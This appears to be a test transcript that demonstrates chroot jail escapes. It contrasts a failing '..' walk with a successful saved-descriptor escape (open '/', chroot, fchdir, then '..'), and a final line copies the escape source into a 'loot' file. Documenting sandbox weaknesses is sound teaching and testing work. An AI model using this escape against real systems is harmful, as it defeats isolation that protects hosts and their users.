fails: second descriptor
misconception: Enough dots lead out.

  $ escape dotdot
  mkdir("{cage}", 0755)     = 0
  chdir("{cage}")           = 0
  chroot(".")                  = 0
  chdir("..") x 16             = 0
  Held: the walk ended in the cage, where ".." leads nowhere else.
  [1]
  $ mkdir -p {cage}/bin
  $ cp /rescue/sh /rescue/ls {cage}/bin
  $ chroot {cage} /bin/sh -c 'cd ../../../..; ls ../../..'
  bin
  $ escape saved-fd
  mkdir("{cage}", 0755)     = -1: File exists
  open("/", O_RDONLY)          = 3
  chdir("{cage}")           = 0
  chroot(".")                  = 0
  fchdir(3)                    = 0
  chdir("..") x 16             = 0
  Out: "." is the directory that was "/" at the start.
  $ sed -n '/^by_chroot/,/^}/p' /usr/share/examples/cellblock/escape.c > /root/{loot}
